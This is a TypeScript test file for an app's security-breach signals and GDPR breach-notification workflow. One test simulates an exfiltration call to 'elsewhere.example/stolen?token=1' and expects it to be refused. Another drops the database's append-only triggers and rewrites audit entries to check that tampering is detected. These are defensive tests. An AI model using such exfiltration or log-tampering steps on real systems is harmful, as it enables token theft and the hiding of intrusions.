import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createHttpClient, realHosts } from '../../../main/engine/http/client.ts';
import { openDatabase } from '../../../main/engine/store/open-database.ts';
import type { Notice } from '../../../shared/contract/index.ts';
import type { BreachAnswers } from '../../../shared/model/breach.ts';
import { type EngineBench, openBench } from '../../engine-bench.ts';
import { nothingOnHold } from '../../free-errand.ts';

let bench: EngineBench;
let database: Database.Database;
let heard: Notice[];
const hour = 3_600_000;

const withDatabase = {
  openDatabase: async (...parts: Parameters<typeof openDatabase>) => {
    const opened = await openDatabase(...parts);
    if (opened.ok) database = opened.value;
    return opened;
  },
};

beforeEach(async () => {
  bench = await openBench(undefined, withDatabase);
  heard = [];
  listen();
});
afterEach(() => bench.remove());

function listen(): void {
  const stream = bench.engine.events.notices.follow(undefined);
  void (async () => {
    for await (const notice of stream) heard.push(notice);
  })();
}

async function look(): Promise<void> {
  bench.engine.answers.work();
  await bench.engine.answers.idle();
  await new Promise((resolve) => setImmediate(resolve));
}

const signals = async () => (await bench.page.breach.overview()).signals;
const told = () => heard.flatMap((notice) => (notice.kind === 'breach-signal' ? [notice.signal] : []));
const refuseUnlock = (): void => bench.engine.audit.add('unlock-refused', 'kaizup', null, { failures: 1 });

describe('a signal', () => {
  test('D22 is raised by five refused attempts to unlock within an hour, once, and again by the next five', async () => {
    for (let attempt = 1; attempt <= 4; attempt += 1) refuseUnlock();
    await look();
    bench.clock.set(bench.clock.now() + 2 * hour);
    refuseUnlock();
    await look();
    expect(await signals()).toEqual([]);
    for (let attempt = 1; attempt <= 4; attempt += 1) refuseUnlock();
    await look();
    await look();
    expect(told()).toEqual(['unlock-refused']);
    const [signal] = await signals();
    expect(signal).toMatchObject({ kind: 'unlock-refused', facts: { count: 5 }, decidedAt: null });
    await bench.page.breach.dismiss({ signalId: signal?.id ?? -1, reason: 'I forgot my new password' });
    for (let attempt = 1; attempt <= 5; attempt += 1) refuseUnlock();
    await look();
    expect(told()).toEqual(['unlock-refused', 'unlock-refused']);
  });

  test('D22 is raised by an audit log that was changed, and not again by the same change', async () => {
    await bench.connect();
    await bench.engine.audit.settle();
    // As a program that has the key would: what keeps the log append-only is gone first.
    for (const name of database
      .prepare("select name from sqlite_schema where type = 'trigger'")
      .pluck()
      .all()) {
      database.exec(`drop trigger ${String(name)}`);
    }
    database.prepare("update audit_entry set actor = 'kaizup' where kind = 'account-connected'").run();
    await look();
    expect(told()).toEqual(['audit-broken']);
    const [signal] = await signals();
    await bench.page.breach.dismiss({ signalId: signal?.id ?? -1, reason: 'A disk fault, repaired' });
    bench.clock.set(bench.clock.now() + 25 * hour);
    await look();
    expect(told()).toEqual(['audit-broken']);
    expect((await signals())[0]).toMatchObject({ reason: 'A disk fault, repaired' });
  });

  test('D22 is raised by an older database, although the next entry moves the ends of the log', async () => {
    await bench.engine.audit.settle();
    refuseUnlock();
    await bench.engine.audit.settle();
    await bench.engine.drain(1000);
    const file = join(bench.profile, 'kaizup.db');
    copyFileSync(file, `${file}.older`);
    bench = await openBench(bench, withDatabase);
    await bench.connect();
    await bench.engine.drain(1000);
    copyFileSync(`${file}.older`, file);
    bench = await openBench(bench, withDatabase);
    await bench.connect();
    await bench.engine.audit.settle();
    listen();
    await look();
    expect(told()).toContain('older-database');
  });

  test('D22 is raised by an anchor that somebody else wrote', async () => {
    await bench.connect();
    await bench.engine.drain(1000);
    const file = join(bench.profile, 'audit.anchor');
    writeFileSync(file, readFileSync(file, 'utf8').replace(/"mac":"./, '"mac":"x'));
    bench = await openBench(bench, withDatabase);
    listen();
    await new Promise((resolve) => setImmediate(resolve));
    expect(told()).toEqual(['audit-broken']);
  });

  test('D22 is raised by a call to a host that no rule names, which is refused and in the audit log', async () => {
    const send = (purpose: 'statistics' | 'access') =>
      http
        .callsFor('facebook', realHosts(['graph.facebook.com']), { purpose, accountId: null })
        .send({ method: 'GET', url: 'https://elsewhere.example/stolen?token=1' });
    const { refusedHost } = bench.engine.answers.signals;
    const http = createHttpClient(bench.clock, () => undefined, nothingOnHold, refusedHost);
    // A server that the owner mistyped while signing in is no signal.
    for (const purpose of ['access', 'statistics', 'statistics'] as const) {
      expect(await send(purpose)).toEqual({ kind: 'not-sent', reason: 'host-refused' });
    }
    await http.close();
    await look();
    expect(told()).toEqual(['unexpected-host']);
    const entries = await bench.page.privacy.audit({ before: null, limit: 20 });
    expect(entries.filter(({ kind }) => kind === 'unexpected-host').map(({ detail }) => detail)).toEqual([
      { network: 'facebook', host: 'elsewhere.example' },
    ]);
  });

  test('D22 is raised by a network that says a sign-in was used twice, and not by one that ended it', async () => {
    const id = await bench.connect();
    const account = bench.engine.accounts.get(id);
    if (account === undefined) throw new Error('No account');
    bench.engine.connections.accessLost(account, {
      class: 'reauth',
      code: 'signed-out',
      networkCode: 'invalid_grant',
    });
    await look();
    expect(told()).toEqual([]);
    bench.engine.connections.accessLost(account, {
      class: 'reauth',
      code: 'signed-out',
      networkCode: 'invalid_grant/replayed',
    });
    await look();
    expect(told()).toEqual(['token-misused']);
  });

  test('D22 is raised by another keychain, and kept until the owner has judged it', async () => {
    bench.engine.answers.signals.keyBackendChanged({ before: 'gnome_libsecret', now: 'kwallet6' });
    expect(told()).toEqual([]);
    await look();
    expect(told()).toEqual(['key-backend-changed']);
    bench = await bench.reopen();
    expect((await signals())[0]).toMatchObject({ kind: 'key-backend-changed', decidedAt: null });
  });
});

const described: BreachAnswers = {
  happened: 'A laptop was stolen from the shop.',
  nature: ['confidentiality'],
  since: null,
  data: ['accounts', 'publishing'],
  who: 'Customers who are in pictures',
  persons: 40,
  records: 120,
  risk: { others: 'yes', unreadable: 'no', sensitive: 'no', misuse: 'yes', many: 'no', contained: 'no' },
  consequences: 'Somebody could write in our name.',
  measures: 'The police were told.',
  contact: 'Camille Peeters, camille@levain.example',
  lateBecause: '',
};

describe('the assistant', () => {
  async function opened(): Promise<number> {
    bench.engine.answers.signals.keyBackendChanged({ before: 'a', now: 'b' });
    const [signal] = await signals();
    const { id } = await bench.page.breach.open({
      signalIds: [signal?.id ?? -1],
      knownAt: bench.clock.now(),
    });
    return id;
  }

  test('D22 holds the 72 hours, reminds while they run, and stops when the authority was told', async () => {
    const id = await opened();
    const start = bench.clock.now();
    const reminders = () =>
      heard.flatMap((notice) => (notice.kind === 'breach-clock' ? [notice.hoursLeft] : []));
    for (const passed of [23, 24, 30, 48, 65, 66]) {
      bench.clock.set(start + passed * hour);
      await look();
    }
    expect(reminders()).toEqual([48, 24, 6]);
    await bench.page.breach.told({ id, notice: 'authority', at: bench.clock.now() });
    bench.clock.set(start + 100 * hour);
    await look();
    expect(reminders()).toEqual([48, 24, 6]);
    expect((await bench.page.breach.overview()).breaches[0]).toMatchObject({
      clockRuns: false,
      dueAt: start + 72 * hour,
    });
  });

  test('D22 starts the clock anew when it became known at another time, and takes no time to come', async () => {
    const id = await opened();
    const knownAt = bench.clock.now() - 60 * hour;
    await bench.page.breach.setKnownAt({ id, knownAt });
    await look();
    expect(heard.at(-1)).toEqual({ kind: 'breach-clock', hoursLeft: 24 });
    await expect(bench.page.breach.setKnownAt({ id, knownAt: bench.clock.now() + 1 })).rejects.toMatchObject({
      callError: { code: 'time-invalid' },
    });
  });

  test('D22 recommends by the answers, writes both notices in both languages, and counts what is held', async () => {
    await bench.connect();
    const id = await opened();
    const { held } = bench.page.breach;
    expect(await held()).toMatchObject({ connectedAccounts: 1 });
    expect((await held()).byActivity.accounts).toBe(2);
    const saved = await bench.page.breach.save({ id, answers: described });
    expect(saved.recommendation?.decision).toBe('authority-and-persons');
    const { text: authority } = await bench.page.breach.draft({ id, notice: 'authority', locale: 'en' });
    for (const part of [
      'Art. 33(3)(a)',
      'A laptop was stolen',
      '40',
      '120',
      'Somebody could write',
      'The police',
    ]) {
      expect(authority).toContain(part);
    }
    const { text: persons } = await bench.page.breach.draft({ id, notice: 'persons', locale: 'fr' });
    expect(persons).toContain('article 34');
    expect(persons).toContain('camille@levain.example');
  });

  test('D22 really takes every access back and puts everything on hold, and says so in the record', async () => {
    const account = await bench.connect();
    const id = await opened();
    expect(await bench.page.breach.measure({ id, measure: 'disconnect-all' })).toMatchObject({ done: 1 });
    expect(bench.engine.accounts.get(account)).toMatchObject({ status: 'disconnected', sealed_token: null });
    expect(database.prepare('select count(*) from "grant"').pluck().get()).toBe(0);
    await bench.page.breach.measure({ id, measure: 'hold-all' });
    expect(await bench.page.privacy.restrictions()).toMatchObject([{ scope: { kind: 'whole' } }]);
    const { steps } = await bench.page.breach.get({ id });
    expect(steps.map(({ step, detail }) => [step, detail['measure']])).toEqual([
      ['opened', undefined],
      ['measure', 'disconnect-all'],
      ['measure', 'hold-all'],
    ]);
  });

  test('D22 is closed only when it is decided and told, and the record is whole, closed and kept for good', async () => {
    const id = await opened();
    const { breach } = bench.page;
    await breach.save({ id, answers: described });
    await expect(breach.close({ id, conclusion: 'Over' })).rejects.toMatchObject({
      callError: { code: 'not-in-this-state' },
    });
    await breach.decide({ id, decision: 'authority', reason: 'The pictures show nobody from near.' });
    await expect(breach.close({ id, conclusion: 'Over' })).rejects.toMatchObject({
      callError: { code: 'not-in-this-state' },
    });
    await breach.keepNotice({ id, notice: 'authority', text: 'As it was sent' });
    await breach.told({ id, notice: 'authority', at: bench.clock.now() });
    await breach.close({ id, conclusion: 'The laptop was found, sealed.' });
    await expect(breach.save({ id, answers: { ...described, who: 'Nobody' } })).rejects.toMatchObject({
      callError: { code: 'not-in-this-state' },
    });
    const { text } = await breach.record({ id, locale: 'en' });
    for (const part of [
      'Article 33(5)',
      'A laptop was stolen',
      'The pictures show nobody from near.',
      'As it was sent',
      'The laptop was found, sealed.',
      'Record closed',
    ]) {
      expect(text).toContain(part);
    }
    bench.clock.set(bench.clock.now() + 30 * 365 * 24 * hour);
    bench.engine.retention.sweepDue();
    await bench.engine.retention.idle();
    expect((await breach.overview()).breaches).toHaveLength(1);
    expect((await breach.get({ id })).signals).toHaveLength(1);
  });

  test('D22, D14 a signal that was none goes five years later', async () => {
    bench.engine.answers.signals.keyBackendChanged({ before: 'a', now: 'b' });
    const [signal] = await signals();
    await bench.page.breach.dismiss({ signalId: signal?.id ?? -1, reason: 'A new desktop' });
    bench.clock.set(bench.clock.now() + 5.1 * 365.25 * 24 * hour);
    bench.engine.retention.sweepDue();
    await bench.engine.retention.idle();
    expect(await signals()).toEqual([]);
  });
});
